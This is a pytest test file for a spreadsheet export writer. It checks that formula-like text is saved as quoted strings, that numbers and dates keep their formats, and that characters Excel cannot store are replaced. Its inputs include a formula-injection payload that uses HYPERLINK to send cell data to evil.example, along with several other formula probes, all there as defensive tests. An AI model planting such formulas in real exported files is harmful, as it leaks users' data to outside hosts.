"""The export writer (core.workbook): text stays text, numbers stay numbers, what Excel cannot store is
replaced and counted. Each workbook is saved, then read back with openpyxl and as raw XML."""
from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.workbook import DATETIME, MAX_TEXT, MONEY, REPLACEMENT, ExportWorkbook


def _saved(rows: list[list], **sheet) -> tuple[ExportWorkbook, bytes]:
    book = ExportWorkbook()
    ws = book.add_sheet("Export", ["text", "number", "when"], **sheet)
    for r in rows:
        ws.append(r)
    return book, book.to_bytes()


def _xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?d="&B2,"open")', "+1+1", "-1+1", "@SUM(A1)",
                                  "\t=1+1", "\r=1+1", "=*****"])
def test_text_that_starts_like_a_formula_is_saved_as_a_quoted_string_cell(text):
    _, data = _saved([[text]])
    xml = _xml(data)
    assert "<f>" not in xml and "<f " not in xml
    assert re.search(r'<c r="A2"[^>]*t="inlineStr"', xml)
    cell = load_workbook(io.BytesIO(data)).active["A2"]
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value == text.replace("\r", "\n")  # XML reads a carriage return back as a line feed


def test_an_error_code_typed_as_text_stays_text():
    _, data = _saved([["#N/A"], ["#DIV/0!"]])
    ws = load_workbook(io.BytesIO(data)).active
    assert [(c.value, c.data_type) for c in ws["A"][1:]] == [("#N/A", "s"), ("#DIV/0!", "s")]


def test_negative_money_and_dates_stay_numbers_in_their_formats():
    _, data = _saved([["refund", Decimal("-12.50"), dt.datetime(2026, 3, 1, 9, 30)], ["count", -7, None]],
                     formats={1: MONEY, 2: DATETIME})
    ws = load_workbook(io.BytesIO(data)).active
    assert (ws["B2"].data_type, ws["B2"].number_format, Decimal(str(ws["B2"].value))) == ("n", "0.00", Decimal("-12.5"))
    assert ws["B3"].value == -7 and ws["B3"].data_type == "n"
    assert ws["C2"].value == dt.datetime(2026, 3, 1, 9, 30) and ws["C2"].number_format == DATETIME


@pytest.mark.parametrize("bad", ["\x00", "\x07", "\x1b", "\ufffe", "\ud800"])
def test_a_character_excel_cannot_store_is_replaced_and_counted(bad):
    book, data = _saved([[f"B1-{bad}101"], ["plain"]])
    assert book.replaced_cells == 1
    assert load_workbook(io.BytesIO(data)).active["A2"].value == f"B1-{REPLACEMENT}101"


def test_tabs_and_line_feeds_inside_text_are_kept():
    book, data = _saved([["line one\nline\ttwo"]])
    assert book.replaced_cells == 0
    assert load_workbook(io.BytesIO(data)).active["A2"].value == "line one\nline\ttwo"


def test_text_longer_than_a_cell_holds_is_cut_and_counted():
    book, data = _saved([["x" * (MAX_TEXT + 10)]])
    assert book.truncated_cells == 1 and len(load_workbook(io.BytesIO(data)).active["A2"].value) == MAX_TEXT


def test_not_a_number_and_infinity_are_written_as_empty_cells():
    _, data = _saved([["nan", float("nan"), None], ["inf", Decimal("Infinity"), None]])
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["B2"].value is None and ws["B3"].value is None


def test_the_header_row_is_bold_and_frozen():
    _, data = _saved([["a", 1, None]])
    ws = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in ws[1]] == ["text", "number", "when"] and all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"


def test_rows_streamed_in_bulk_are_written_as_rows_appended_one_by_one():
    """StreamingWorkbook.append_rows (large exports) takes a shorter path per cell: the sheet is the same bytes as
    append() writes, and every value, type, format, quote prefix and position reads back the same."""
    import math

    from core.workbook import DATE, INTEGER, KWH, StreamingWorkbook
    rows = [[dt.datetime(2026, 1, 1, 0, 30), 1.5, None, Decimal("2.50"), "plain", "=SUM(A1)", "-x", "a\x01b", "<&>\"",
             True, float("nan"), math.inf, Decimal("NaN"), 10 ** 30, "x" * (MAX_TEXT + 5), "#N/A", dt.date(2026, 2, 3), 7],
            [None, None, 3, None, "", "@me", "+1", "中文", "tab\tin", False, 2.25, -math.inf, Decimal("-1.00"), -5,
             "ok", "#x", None, None]]
    formats = {0: DATETIME, 1: KWH, 3: MONEY, 16: DATE, 17: INTEGER}

    def cells(bulk: bool):
        book = StreamingWorkbook("t", [f"h{i}" for i in range(18)], formats=formats, preamble=[["T"], ["f"]])
        if bulk:
            book.append_rows(rows)
        else:
            for r in rows:
                book.append(r)
        data = book.to_bytes()
        ws = load_workbook(io.BytesIO(data)).active
        return (book.replaced_cells, book.truncated_cells, ws.max_column,
                [(c.coordinate, c.value, c.data_type, c.number_format, c.quotePrefix) for r in ws.iter_rows() for c in r],
                zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml"))

    assert cells(True) == cells(False)
